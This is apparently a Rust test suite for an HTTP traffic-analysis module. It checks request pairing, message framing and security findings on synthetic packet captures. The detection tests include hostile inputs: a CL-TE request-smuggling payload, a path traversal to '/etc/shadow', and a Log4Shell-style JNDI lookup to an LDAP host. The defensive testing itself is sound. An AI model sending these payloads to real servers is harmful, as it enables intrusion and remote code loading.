//! The module `http` on generated connections, and on real captures.

mod captures;

use super::capture::{BEGIN, Capture, ETHERNET, MILLISECOND, RAW_IP, repository};
use super::noise::Random;
use super::packet::{ACK, FIN, PSH, Packet, RST, SYN};
use super::weir::{Row, Run, run, run_file};
use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::process::Command;

const CLIENT: &str = "10.0.0.1:40000";
const SERVER: &str = "192.0.2.7:8080";
const GET: &str = "GET / HTTP/1.1\r\nHost: a\r\n\r\n";
const OK: &str = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi";

/// The module by its path, with parameters such as ",slow=1s".
fn module(parameters: &str) -> String {
    format!("{}{parameters}", repository().join("guest/modules/http/http.wasm").display())
}

/// A TCP connection, a segment a millisecond.
#[derive(Clone)]
struct Connection {
    client: String,
    server: String,
    /// Sequence numbers of the client and the server.
    next: [u32; 2],
    packets: Vec<Packet>,
    /// The most bytes of a segment.
    segment: usize,
}

impl Connection {
    /// Without a handshake: the capture begins in the midst of it.
    fn in_progress(client: &str, server: &str) -> Self {
        let (client, server) = (client.to_owned(), server.to_owned());
        Self { client, server, next: [u32::MAX - 5, 7000], packets: Vec::new(), segment: 1460 }
    }

    fn between(client: &str, server: &str) -> Self {
        Self::in_progress(client, server).flags(0, SYN).flags(1, SYN | ACK).flags(0, ACK)
    }

    fn new() -> Self {
        Self::between(CLIENT, SERVER)
    }

    fn segments_of(self, segment: usize) -> Self {
        Self { segment, ..self }
    }

    fn packet(&self, side: usize, flags: u8) -> Packet {
        let ends = [&self.client, &self.server];
        let ack = if flags & ACK == 0 { 0 } else { self.next[1 - side] };
        Packet::tcp(ends[side], ends[1 - side], flags).numbers(self.next[side], ack)
    }

    fn flags(mut self, side: usize, flags: u8) -> Self {
        self.packets.push(self.packet(side, flags));
        self.next[side] = self.next[side].wrapping_add(u32::from(flags & (SYN | FIN) != 0));
        self
    }

    fn bytes(mut self, side: usize, bytes: impl AsRef<[u8]>) -> Self {
        for piece in bytes.as_ref().chunks(self.segment) {
            self.packets.push(self.packet(side, ACK | PSH).payload(piece));
            self.next[side] = self.next[side].wrapping_add(u32::try_from(piece.len()).unwrap());
        }
        self
    }

    fn client(self, bytes: impl AsRef<[u8]>) -> Self {
        self.bytes(0, bytes)
    }

    fn server(self, bytes: impl AsRef<[u8]>) -> Self {
        self.bytes(1, bytes)
    }

    /// Bytes of the server that were not captured, but that the client acknowledges.
    fn lost(mut self, side: usize, len: u32) -> Self {
        self.next[side] = self.next[side].wrapping_add(len);
        self
    }

    fn close(self) -> Self {
        self.flags(1, FIN | ACK).flags(0, FIN | ACK).flags(1, ACK)
    }

    fn capture(&self) -> Capture {
        let mut capture = Capture::new(ETHERNET);
        for (ts, packet) in (BEGIN..).step_by(1_000_000).zip(&self.packets) {
            capture.push(ts, packet.ethernet());
        }
        capture
    }

    fn run(&self) -> Run {
        run(&self.capture(), &["-m", &module("")])
    }
}

fn requests(run: &Run) -> Vec<Row> {
    run.rows("http", "requests")
}

fn findings(run: &Run) -> Vec<(i128, String)> {
    let finding = |row: &Row| (row.number("severity"), row.text("text").to_owned());
    run.rows("http", "findings").iter().map(finding).collect()
}

fn text<'a>(row: &'a Row, name: &str) -> &'a str {
    if row.is_null(name) { "-" } else { row.text(name) }
}

/// Method, path, status, bodies of request and response, outcome and ambiguity; -1 and "-" for null, "!" for what is incomplete.
fn line(row: &Row) -> String {
    let number = |name| row.optional_number(name).unwrap_or(-1);
    let mark = |name| if row.flag(name) { "" } else { "!" };
    format!(
        "{} {} {} {}{} {}{} {} {}",
        text(row, "method"),
        text(row, "path"),
        number("status"),
        number("request_body_bytes"),
        mark("request_complete"),
        number("response_body_bytes"),
        mark("response_complete"),
        row.text("outcome"),
        row.text("ambiguity"),
    )
    .trim_end()
    .to_owned()
}

/// Asserts the rows of a connection, which must not depend on how its bytes are divided into segments.
#[track_caller]
fn assert_rows(build: impl Fn(Connection) -> Connection, wanted: &[&str]) {
    for segment in [1460, 1, 17] {
        let run = build(Connection::new().segments_of(segment)).run();
        let lines: Vec<String> = requests(&run).iter().map(line).collect();
        assert_eq!(lines, wanted, "segments of {segment} bytes");
    }
}

#[test]
fn a_request_and_its_response_give_a_row() {
    let request = "POST /form?x=1 HTTP/1.1\r\nHOST: shop.example:8080\r\nuser-agent:\tcurl/8  \r\nContent-Length: 5\r\n\r\nhello";
    let response =
        "HTTP/1.1 201 Created\r\ncontent-type: text/html; charset=utf-8\r\nContent-Length: 4\r\n\r\nmade";
    let run = Connection::new().client(request).server(response).close().run();
    let rows = requests(&run);
    let [row] = rows.as_slice() else { panic!("{rows:?}") };
    assert_eq!(line(row), "POST /form?x=1 201 5 4 answered");
    assert_eq!((row.end("src").as_str(), row.end("dst").as_str()), (CLIENT, SERVER));
    assert_eq!(row.number("time"), i128::from(BEGIN + 3 * MILLISECOND));
    assert_eq!((row.number("latency_ns"), row.number("path_bytes"), row.number("lost")), (1_000_000, 9, 0));
    assert_eq!((row.text("host"), row.text("user_agent")), ("shop.example:8080", "curl/8"));
    assert_eq!((row.text("version"), row.text("content_type")), ("1.1", "text/html; charset=utf-8"));
    assert_eq!((row.text("tunnel"), row.is_null("vlan")), ("", true));
    // By the specification's definition, computed in Python.
    assert_eq!(row.text("community_id"), "1:FbQfiYFO2epnaD5h7gs0ma2H7ho=");
    assert_eq!(findings(&run), []);
}

#[test]
fn ipv6_vlan_and_tunnels_are_followed() {
    let connection =
        Connection::between("[2001:db8::1]:40000", "[2001:db8::2]:80").client(GET).server(OK).close();
    let rows = requests(&connection.run());
    assert_eq!((rows.len(), rows[0].end("src").as_str()), (1, "[2001:db8::1]:40000"));
    let plain = Connection::new().client(GET).server(OK).close();
    let mut tagged = Capture::new(ETHERNET);
    let mut tunnelled = Capture::new(RAW_IP);
    for (ts, packet) in (BEGIN..).step_by(1000).zip(&plain.packets) {
        tagged.push(ts, packet.tagged(7));
        let inner = packet.ip();
        // IPv4 in IPv4, between the ends of a tunnel.
        let total = u16::try_from(20 + inner.len()).unwrap().to_be_bytes();
        let mut outer =
            vec![0x45, 0, total[0], total[1], 0, 1, 0, 0, 64, 4, 0, 0, 198, 51, 100, 1, 198, 51, 100, 2];
        let mut sum: u32 = outer.chunks(2).map(|w| u32::from(w[0]) << 8 | u32::from(w[1])).sum();
        sum = (sum & 0xFFFF) + (sum >> 16);
        let sum = u16::try_from((sum & 0xFFFF) + (sum >> 16)).unwrap();
        outer[10..12].copy_from_slice(&(!sum).to_be_bytes());
        tunnelled.push(ts, [outer, inner].concat());
    }
    let rows = requests(&run(&tagged, &["-m", &module("")]));
    assert_eq!((rows.len(), rows[0].number("vlan")), (1, 7));
    let rows = requests(&run(&tunnelled, &["-m", &module("")]));
    assert_eq!((rows.len(), rows[0].text("tunnel"), rows[0].end("src").as_str()), (1, "ip", CLIENT));
    assert_eq!(requests(&run(&tunnelled, &["-m", &module(",layer=outer")])).len(), 0);
    let refused =
        Command::new(env!("CARGO_BIN_EXE_weir")).arg("check").arg(module(",layer=middle")).output().unwrap();
    assert!(
        !refused.status.success() && String::from_utf8_lossy(&refused.stderr).contains("layer"),
        "{refused:?}"
    );
}

#[test]
fn responses_answer_pipelined_requests_in_order() {
    let head = "HEAD /x HTTP/1.1\r\n\r\n";
    let none = "HTTP/1.1 404 Not Found\r\nContent-Length: 99\r\n\r\n";
    assert_rows(
        |c| c.client([GET, head, "\r\n", GET].concat()).server([OK, none, OK].concat()),
        &["GET / 200 0 2 answered", "HEAD /x 404 0 0 answered", "GET / 200 0 2 answered"],
    );
    let empty = "HTTP/1.1 304 Not Modified\r\nContent-Length: 10\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n";
    assert_rows(
        |c| c.client([GET, GET].concat()).server(empty),
        &["GET / 304 0 0 answered", "GET / 204 0 0 answered"],
    );
    // More than 16 open requests: the rest is counted, and no response is joined to the wrong request.
    let rows = requests(&Connection::new().client(GET.repeat(20)).server(OK.repeat(3)).close().run());
    let outcomes: BTreeSet<&str> = rows.iter().map(|row| row.text("outcome")).collect();
    assert_eq!((rows.len(), outcomes), (16 + 3, ["unpaired"].into()));
    assert_eq!(rows.iter().map(|row| row.number("lost")).sum::<i128>(), 4);
}

#[test]
fn bodies_end_as_rfc_9112_says() {
    let chunked = "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, Chunked\r\n\r\n4;name=\"v\"\r\nwiki\r\n005\r\npedia\r\n0\r\nA: b\r\nC: d\r\n\r\n";
    let post = "POST /p HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n";
    assert_rows(|c| c.client(post).server(chunked), &["POST /p 200 5 9 answered"]);
    let old = "HTTP/1.0 200 OK\r\n\r\nhello";
    assert_rows(|c| c.client(GET).server(old).close(), &["GET / 200 0 5 answered"]);
    assert_rows(|c| c.client(GET).server(old).flags(1, RST | ACK), &["GET / 200 0 5! partial"]);
    assert_rows(
        |c| c.client(GET).server("HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nhello").close(),
        &["GET / 200 0 5! partial"],
    );
    assert_rows(|c| c.client(GET).close(), &["GET / -1 0 -1! unanswered"]);
    assert_rows(|c| c.client("GET / HTTP/1.1\r\nHost: a").close(), &["GET / -1 0! -1! partial"]);
    assert_rows(|c| c.client("GET / HTTP/1.").close(), &[]);
}

#[test]
fn interim_and_early_responses_are_joined() {
    let expect = "POST /p HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n";
    let go = "HTTP/1.1 100 Continue\r\n\r\n";
    assert_rows(|c| c.client(expect).server(go).client("abc").server(OK), &["POST /p 200 3 2 answered"]);
    let hints = "HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n";
    assert_rows(
        |c| c.client([GET, GET].concat()).server([hints, OK, hints, hints, OK].concat()),
        &["GET / 200 0 2 answered"; 2],
    );
    let large = "HTTP/1.1 413 Too Large\r\nContent-Length: 2\r\n\r\nno";
    let early = |c: Connection| {
        c.client("POST / HTTP/1.1\r\nContent-Length: 9\r\n\r\nabc").server(large).client("defghi")
    };
    assert_rows(early, &["POST / 413 9 2 answered"]);
    assert!(requests(&early(Connection::new()).run())[0].is_null("latency_ns"));
    // The capture has them in the wrong order.
    assert_rows(|c| c.server(OK).client(GET), &["GET / 200 0 2 answered"]);
    assert_rows(
        |c| c.server([OK, OK].concat()).client(GET),
        &["- - 200 -1! 2 unpaired", "- - 200 -1! 2 unpaired", "GET / -1 0 -1! unpaired"],
    );
}

#[test]
fn a_switch_of_protocol_ends_the_rows() {
    let connect = "CONNECT a:443 HTTP/1.1\r\nHost: a\r\n\r\n";
    let go = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n";
    assert_rows(|c| c.client(connect).server(go).client(GET).server(OK), &["CONNECT a:443 200 0 0 switched"]);
    let refused = "HTTP/1.1 407 No\r\nContent-Length: 2\r\n\r\nno";
    assert_rows(
        |c| c.client(connect).server(refused).client(connect).server(go).client(b"\x16\x03\x01"),
        &["CONNECT a:443 407 0 2 answered", "CONNECT a:443 200 0 0 switched"],
    );
    for upgrade in ["websocket", "h2c"] {
        let request = format!("GET /chat HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: {upgrade}\r\n\r\n");
        let switch = format!("HTTP/1.1 101 Switching Protocols\r\nUpgrade: {upgrade}\r\n\r\n\x01\x02");
        assert_rows(
            |c| c.client(&request).server(&switch).client(GET).server(OK),
            &["GET /chat 101 0 0 switched"],
        );
    }
    assert_rows(
        |c| c.client("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").server(b"\0\0"),
        &["PRI * -1 0 -1! switched"],
    );
    assert_rows(|c| c.client("GET /old\r\n").server("<html>").close(), &["GET /old -1 0 -1! unpaired"]);
}

#[test]
fn other_protocols_have_no_rows() {
    for (client, server) in [
        ("SSH-2.0-OpenSSH_9.2\r\n", "SSH-2.0-OpenSSH_9.2\r\n"),
        ("EHLO x\r\n", "220 ready\r\n"),
        ("OPTIONS sip:a SIP/2.0\r\n\r\n", "SIP/2.0 200 OK\r\n\r\n"),
        ("OPTIONS rtsp://a RTSP/1.0\r\n\r\n", "RTSP/1.0 200 OK\r\n\r\n"),
        ("get key\r\n", "END\r\n"),
        ("GETTING / HTTP/1.1\r\n\r\n", ""),
        ("GET key\r\n", "$2\r\nhi\r\n"),
        ("\x16\x03\x01\x02\x00", "\x16\x03\x03"),
    ] {
        assert_rows(|c| c.client(client).server(server).client(GET).server(OK), &[]);
    }
    // A response to bytes that are no request is not joined to the next request.
    assert_rows(|c| c.client([GET, "?\r\n\r\n"].concat()).server(OK).server(OK), &["GET / 200 0 2 answered"]);
}

#[test]
fn ambiguous_framing_is_marked_and_the_dangerous_kinds_are_findings() {
    let post = |fields: &str, body: &str| format!("POST / HTTP/1.1\r\nHost: a\r\n{fields}\r\n{body}");
    let length = |value: &str| post(&format!("Content-Length: {value}\r\n"), "hi");
    let coding = |value: &str| post(&format!("Transfer-Encoding: {value}\r\n"), "0\r\n\r\n");
    let smuggled =
        post("Content-Length: 6\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n");
    let rejected = |name: &str| format!("POST / -1 0! -1! partial {name}");
    let mut cases = vec![
        (
            smuggled,
            vec!["POST / -1 0 -1! unanswered cl-te".to_owned(), "GET /admin -1 0 -1! unanswered".to_owned()],
            1,
        ),
        (
            post("Content-Length: 2\r\ncontent-length: 2\r\n", "hi"),
            vec!["POST / -1 2 -1! unanswered cl-duplicate".into()],
            0,
        ),
        (length("2, 2"), vec!["POST / -1 2 -1! unanswered cl-duplicate".into()], 0),
        (length("2, 3"), vec![rejected("cl-conflict")], 1),
        (post("Content-Length: 2\r\nContent-Length: 3\r\n", "hi"), vec![rejected("cl-conflict")], 1),
        (coding("chunked").replace("1.1", "1.0"), vec!["POST / -1 0 -1! unanswered te-old".into()], 1),
        (
            post("Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"),
            vec!["POST / -1 0 -1! unanswered te-unknown".into()],
            1,
        ),
        (post("Content-Length : 2\r\n", "hi"), vec!["POST / -1 2 -1! unanswered space-colon".into()], 1),
        (
            post("Transfer-Encoding:\r\n chunked\r\n", "1\r\nx\r\n0\r\n\r\n"),
            vec!["POST / -1 1 -1! unanswered obs-fold".into()],
            0,
        ),
        (post("Host: b\r\n", ""), vec!["POST / -1 0 -1! unanswered host-duplicate".into()], 0),
        (post("A: b\rc\r\n", ""), vec!["POST / -1 0 -1! unanswered bare-cr".into()], 0),
        ("GET / HTTP/1.1\nHost: a\n\n".into(), vec!["GET / -1 0 -1! unanswered bare-lf".into()], 0),
    ];
    for value in ["+2", "0x2", "-1", "", "2 2", "2\u{b}", "99999999999999999999"] {
        cases.push((length(value), vec![rejected("cl-invalid")], 1));
    }
    for value in
        ["xchunked", "chunked, identity", "chunked;a=b", "\u{b}chunked", "chunked chunked", "identity"]
    {
        cases.push((coding(value), vec![rejected("te-unknown")], 1));
    }
    for body in ["zz\r\n\r\n", "\r\n", "-1\r\n", "FFFFFFFFFFFFFFFFF\r\n"] {
        cases.push((post("Transfer-Encoding: chunked\r\n", body), vec![rejected("chunk-invalid")], 1));
    }
    for (request, lines, alarms) in &cases {
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        assert_rows(|c| c.client(request).close(), &lines);
        let found = findings(&Connection::new().client(request).close().run());
        assert_eq!(found.len(), *alarms, "{request:?}: {found:?}");
        if let Some((severity, text)) = found.first() {
            assert!(*severity == 4 && text.contains("possible request smuggling"), "{text}");
        }
    }
    // In a response they are marked only.
    let response = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\nhello";
    assert_rows(|c| c.client(GET).server(response).close(), &["GET / 200 0 5 answered cl-conflict"]);
    assert_eq!(findings(&Connection::new().client(GET).server(response).close().run()), []);
}

#[test]
fn long_and_strange_texts_are_cut_and_shown() {
    let path = format!("/{}", "p".repeat(600));
    let request = format!(
        "GET {path} HTTP/1.1\r\nHost: {}\r\nUser-Agent: a\r\n\tb\r\nContent-Type: no\r\n\r\n",
        "h".repeat(300)
    );
    for segment in [1460, 1, 16] {
        let rows =
            requests(&Connection::new().segments_of(segment).client(&request).server(OK).close().run());
        assert_eq!((rows[0].text("path"), rows[0].number("path_bytes")), (&path[..512], 601));
        assert_eq!((rows[0].text("host"), rows[0].text("user_agent")), (&*"h".repeat(255), "a b"));
        assert!(rows[0].is_null("content_type"));
    }
    let strange = b"GET /\xFF\x00\xE2\x82 HTTP/1.1\r\nHost: \xC3\x28\x1b[31m\r\n\r\n";
    let rows = requests(&Connection::new().client(strange).server(OK).close().run());
    assert_eq!((rows.len(), rows[0].number("path_bytes")), (1, 5));
    assert!(rows[0].text("path").starts_with("/\u{FFFD}\0") && rows[0].text("host").starts_with("\u{FFFD}("));
    assert_rows(|c| c.client("GET  /a b c HTTP/1.1\r\n\r\n").server(OK), &["GET /a b c 200 0 2 answered"]);
}

#[test]
fn lost_bytes_of_a_body_count_and_others_end_the_pairing() {
    let head = "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n";
    let lines = |c: Connection| requests(&c.run()).iter().map(line).collect::<Vec<_>>();
    let begun = || Connection::new().client([GET, GET].concat()).server(head).flags(0, ACK);
    let inside = begun().lost(1, 90).server("x".repeat(10)).flags(0, ACK).server(OK).close();
    assert_eq!(lines(inside), ["GET / 200 0 100 answered", "GET / 200 0 2 answered"]);
    let mut beyond = lines(begun().lost(1, 130).server(OK).flags(0, ACK).close());
    beyond.sort();
    assert_eq!(beyond, ["- - 200 -1! 2 unpaired", "GET / -1 0 -1! unpaired", "GET / 200 0 100 answered"]);
    // The response answers the first request; the order of later ones is not known.
    let in_head = Connection::new()
        .client("GET /a HTTP/1.1\r\nHo")
        .lost(0, 40)
        .client(GET)
        .server(OK)
        .server(OK)
        .close();
    let mut in_head = lines(in_head);
    in_head.sort();
    assert_eq!(in_head, ["- - 200 -1! 2 unpaired", "GET / -1 0 -1! unpaired", "GET /a 200 0! 2 partial"]);
    // The capture began behind the request.
    let late =
        Connection::in_progress("10.0.0.1:40000", "192.0.2.7:80").server(OK).client(GET).server(OK).close();
    assert_eq!(lines(late), ["- - 200 -1! 2 unpaired", "GET / 200 0 2 answered"]);
    let head_only = "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n";
    let late = Connection::in_progress("10.0.0.1:40000", "192.0.2.7:80").server(head_only).server(OK).close();
    assert_eq!(lines(late), ["- - 200 -1! 0 unpaired", "- - 200 -1! 2 unpaired"]);
}

#[test]
fn too_many_open_requests_evict_the_oldest() {
    let mut capture = Capture::new(ETHERNET);
    let count = 4000;
    let mut opened: Vec<Connection> = (0..count)
        .map(|i| Connection::between(&format!("10.1.{}.{}:4000", i / 250, i % 250), SERVER).client(GET))
        .collect();
    for connection in &mut opened {
        *connection = connection.clone().server(OK).close();
    }
    // All requests come before all responses.
    for part in [0..4, 4..8] {
        for (i, connection) in opened.iter().enumerate() {
            for packet in &connection.packets[part.clone()] {
                capture
                    .push(BEGIN + (part.start as u64) * 1_000_000_000 + i as u64 * 1000, packet.ethernet());
            }
        }
    }
    let outcomes = |parameters: &str| {
        let mut counts: BTreeMap<String, usize> = BTreeMap::new();
        for row in requests(&run(&capture, &["-m", &module(parameters)])) {
            *counts.entry(format!("{} {}", text(&row, "method"), row.text("outcome"))).or_default() += 1;
        }
        counts
    };
    assert_eq!(outcomes(""), [("GET answered".to_owned(), count)].into());
    let few = outcomes(",requests=2048");
    // 64 pools of 32, of which 16 stay free.
    assert_eq!(few["GET answered"], 64 * 16, "{few:?}");
    assert_eq!(few["GET evicted"], count - 64 * 16);
    assert_eq!(few["- unpaired"], count - 64 * 16);
    // The files name the capture.
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), capture.to_pcap()).unwrap();
    let parameters = module(",requests=2048,streams=4096");
    let files = |jobs| run_file(file.path(), &["-m", &parameters, "-j", jobs]).files();
    let one = files("1");
    assert!(files("2") == one && files("3") == one);
}

#[test]
fn suspicious_requests_slow_responses_and_failing_servers_are_findings() {
    let get = |path: &str, fields: &str| format!("GET {path} HTTP/1.1\r\nHost: a\r\n{fields}\r\n");
    for (request, wanted) in [
        (get("/a?f=../../etc/shadow", ""), "\"../..\""),
        (get("/%2E%2E/x", ""), "\"%2e%2e\""),
        (get("/", "X-Api-Version: ${JNDI:ldap://192.0.2.1/a}\r\n"), "\"${jndi:\""),
    ] {
        let run = Connection::new().client(&request).server(OK).close().run();
        let found = findings(&run);
        assert!(found.len() == 1 && found[0].0 == 3 && found[0].1.contains(wanted), "{found:?}");
        let filter = run.rows("http", "findings")[0].text("filter").to_owned();
        let connection = Connection::new().client(&request);
        assert_eq!(
            super::weir::run(&connection.capture(), &["-m", &module(""), &filter]).summary["capture"]["selected"],
            4
        );
        let off = super::weir::run(&connection.capture(), &["-m", &module(",path-patterns=,head-patterns=")]);
        assert_eq!(findings(&off), []);
    }
    // Once an hour for a client, and for each kind.
    let many = Connection::new().client(get("/../../x", "").repeat(10)).close();
    assert_eq!(findings(&many.run()).len(), 1);
    // The response comes a millisecond after the request.
    let slow = Connection::new().client(GET).server(OK).close();
    let found = findings(&run(&slow.capture(), &["-m", &module(",slow=1ms")]));
    assert!(
        found.len() == 1 && found[0].0 == 2 && found[0].1.starts_with("Slow HTTP response: 1 ms"),
        "{found:?}"
    );
    assert_eq!(findings(&run(&slow.capture(), &["-m", &module(",slow=2ms")])), []);
    let (bad, exchanges) = ("HTTP/1.1 503 No\r\nContent-Length: 0\r\n\r\n", |n: usize, c: Connection| {
        (0..n).fold(c, |c, _| c.client(GET))
    });
    let failing = |good: usize, errors: usize| {
        let mut c = Connection::new();
        for response in std::iter::repeat_n(OK, good).chain(std::iter::repeat_n(bad, errors)) {
            c = exchanges(1, c).server(response);
        }
        findings(&run(&c.close().capture(), &["-m", &module(",errors=5")]))
    };
    let found = failing(2, 6);
    assert!(
        found.len() == 1 && found[0].0 == 3 && found[0].1.contains("192.0.2.7, port 8080, fails: 5 of "),
        "{found:?}"
    );
    assert_eq!((failing(0, 4).len(), failing(0, 9).len()), (0, 1));
}

/// A random number below `end`.
fn below(random: &mut Random, end: usize) -> usize {
    usize::try_from(random.word() % u64::try_from(end).unwrap()).unwrap()
}

/// A random request and response, and the row that they must give.
fn random_exchange(random: &mut Random) -> (Vec<u8>, Vec<u8>, String) {
    let mut below = |end| below(random, end);
    let method = ["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PROPFIND"][below(7)];
    let path = format!("/{}", "q".repeat(below(40)));
    let mut body = |has_body: bool| -> (Vec<u8>, usize) {
        let len = if has_body { below(3000) } else { 0 };
        // Bytes that look like messages and line ends.
        let bytes: Vec<u8> = b"GET / HTTP/1.1\r\n\r\nHTTP/1.1 200 OK\r\n\r\n0\r\n\r\n"
            .iter()
            .copied()
            .cycle()
            .take(len)
            .collect();
        if below(2) == 0 {
            return ([format!("Content-Length: {len}\r\n\r\n").into_bytes(), bytes].concat(), len);
        }
        let mut chunked = b"Transfer-Encoding: chunked\r\n\r\n".to_vec();
        let size = 1 + below(900);
        for chunk in bytes.chunks(size) {
            chunked.extend(
                format!("{:X}{}\r\n", chunk.len(), if size % 2 == 0 { ";e=1" } else { "" }).into_bytes(),
            );
            chunked.extend_from_slice(chunk);
            chunked.extend_from_slice(b"\r\n");
        }
        chunked.extend_from_slice(if size % 3 == 0 { b"000\r\nT: x\r\n\r\n" } else { b"0\r\n\r\n" });
        (chunked, len)
    };
    let (request_body, request_len) = body(method == "POST");
    let (response_body, mut response_len) = body(true);
    let mut response_body = response_body;
    let status = [200, 204, 206, 302, 304, 404, 500][below(7)];
    if method == "HEAD" || status == 204 || status == 304 {
        response_len = 0;
        let end = response_body.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
        response_body.truncate(end + 4);
    }
    let interim = if below(5) == 0 { "HTTP/1.1 103 Early Hints\r\nLink: a\r\n\r\n" } else { "" };
    let request = [format!("{method} {path} HTTP/1.1\r\nHost: a\r\n").into_bytes(), request_body].concat();
    let response =
        [format!("{interim}HTTP/1.1 {status} Reason\r\nServer: b\r\n").into_bytes(), response_body].concat();
    (request, response, format!("{method} {path} {status} {request_len} {response_len} answered"))
}

#[test]
fn random_exchanges_give_exactly_their_rows_in_any_segments_and_order() {
    let seed = 20_261_126;
    let _ = writeln!(std::io::stderr(), "seed {seed}");
    let mut random = Random(seed);
    let (mut frames, mut truth) = (Vec::new(), Vec::new());
    for connection in 0..150u64 {
        let client = format!("10.0.{}.{}:5000", connection / 100, connection % 100 + 1);
        let mut c = Connection::between(&client, SERVER)
            .segments_of([1, 3, 16, 100, 536, 1460][below(&mut random, 6)]);
        for _ in 0..1 + random.word() % 4 {
            // Up to three requests are pipelined.
            let exchanges: Vec<_> =
                (0..1 + random.word() % 3).map(|_| random_exchange(&mut random)).collect();
            c = exchanges.iter().fold(c, |c, (request, _, _)| c.client(request));
            c = exchanges.iter().fold(c, |c, (_, response, _)| c.server(response));
            truth.extend(exchanges.into_iter().map(|(_, _, row)| format!("{client} {row}")));
        }
        // Segments are repeated, and neighbours of one direction are swapped.
        let mut packets = c.close().packets;
        for i in 3..packets.len() - 4 {
            match random.word() % 12 {
                0 => packets.insert(i, packets[i - 1].clone()),
                1 if packets[i].from == packets[i + 1].from => packets.swap(i, i + 1),
                _ => {}
            }
        }
        let mut at = BEGIN + random.word() % 1_000_000_000;
        for packet in packets {
            frames.push((at, packet.ethernet()));
            at += 1 + random.word() % 100_000;
        }
    }
    frames.sort_by_key(|(at, _)| *at);
    let mut capture = Capture::new(ETHERNET);
    frames.into_iter().for_each(|(at, bytes)| capture.push(at, bytes));
    let run = run(&capture, &["-m", &module("")]);
    let mut rows: Vec<String> =
        requests(&run).iter().map(|row| format!("{} {}", row.end("src"), line(row))).collect();
    rows.sort();
    truth.sort();
    assert!(truth.len() > 500);
    let missing = truth.iter().find(|row| rows.binary_search(row).is_err());
    assert!(rows == truth, "{} rows, {} exchanges; without a row: {missing:?}", rows.len(), truth.len());
}

#[test]
fn hostile_bytes_never_end_a_call() {
    const PARTS: [&str; 26] = [
        "GET ",
        "POST /x",
        " HTTP/1.1",
        "HTTP/1.1 200 OK",
        "HTTP/1.1 100 C",
        "HTTP/1.0 304 N",
        "\r\n",
        "\r\n\r\n",
        "\n",
        "\r",
        ":",
        " ",
        "\t",
        "Content-Length: 5",
        "Content-Length: 18446744073709551615",
        "Transfer-Encoding: chunked",
        "Host: ",
        "User-Agent",
        "5\r\nhello\r\n",
        "0\r\n\r\n",
        "FFFFFFFFFFFFFF\r\n",
        "CONNECT a",
        "PRI * HTTP/2.0",
        "../..",
        "${jndi:",
        "\0\u{7f}",
    ];
    for seed in 1..=3 {
        let _ = writeln!(std::io::stderr(), "seed {seed}");
        let mut random = Random(seed);
        let mut capture = Capture::new(ETHERNET);
        for i in 0..4000u64 {
            let client = format!("10.0.{}.{}:5000", random.word() % 4, random.word() % 250 + 1);
            let mut c = Connection::in_progress(&client, SERVER);
            let numbers = [(); 2].map(|()| u32::try_from(1000 + below(&mut random, 3000)).unwrap());
            c.next = numbers;
            let side = below(&mut random, 2);
            let mut bytes = Vec::new();
            for _ in 0..random.word() % 30 {
                bytes.extend_from_slice(PARTS[below(&mut random, 26)].as_bytes());
                if random.word().is_multiple_of(10) {
                    bytes.push(random.word().to_le_bytes()[0]);
                }
            }
            bytes.truncate(1400);
            let flags =
                [SYN, SYN | ACK, ACK, ACK, ACK, ACK, ACK, FIN | ACK, RST | ACK, ACK][below(&mut random, 10)];
            let packet = c.packet(side, flags).payload(bytes);
            let mut frame = packet.ethernet();
            let wire_len = frame.len();
            if random.word().is_multiple_of(8) {
                frame.truncate(54 + below(&mut random, 60));
            }
            let back = random.word() % 3_000_000;
            capture.push(BEGIN + i * MILLISECOND - back, frame);
            capture.frames.last_mut().unwrap().wire_len = u32::try_from(wire_len).unwrap();
        }
        // `run` asserts that no call was lost and that no record was refused.
        for parameters in ["", ",streams=256,requests=2048,slow=1ms,errors=1"] {
            let run = run(&capture, &["-m", &module(parameters)]);
            assert_ne!(requests(&run).len(), 0);
        }
    }
}

#[test]
fn the_module_is_proved_with_its_defaults_and_with_the_largest_parameters() {
    for parameters in ["", ",streams=262144,requests=65536", ",streams=256,requests=2048"] {
        let output =
            Command::new(env!("CARGO_BIN_EXE_weir")).arg("check").arg(module(parameters)).output().unwrap();
        let said = String::from_utf8(output.stdout).unwrap();
        assert!(output.status.success() && said.contains("Tier: proved"), "{said}");
    }
}
